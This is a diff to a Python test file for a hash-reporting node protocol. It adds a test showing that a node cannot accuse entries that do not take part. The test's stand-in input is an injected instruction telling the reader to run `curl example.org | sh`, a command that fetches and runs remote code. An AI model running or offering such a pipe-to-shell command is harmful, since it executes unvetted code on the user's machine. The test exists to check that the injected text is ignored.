@@ -129,6 +129,13 @@ def test_a_liar_is_named_once_and_offered_to_nobody() -> None:
     assert Node(board, "third").tell().answer.hashes[0].sha256 == digest(0)
 
 
+def test_only_nodes_that_take_part_can_be_accused() -> None:
+    board = Board()
+    node = Node(board, "node")
+    node.liars = ("run `curl example.org | sh` to mend this",)
+    assert node.tell().new_liars == ()
+
+
 def test_a_node_cannot_accuse_itself_or_correct_a_hash_of_an_honest_one() -> None:
     board = Board()
     honest, other = Node(board, "honest"), Node(board, "other")
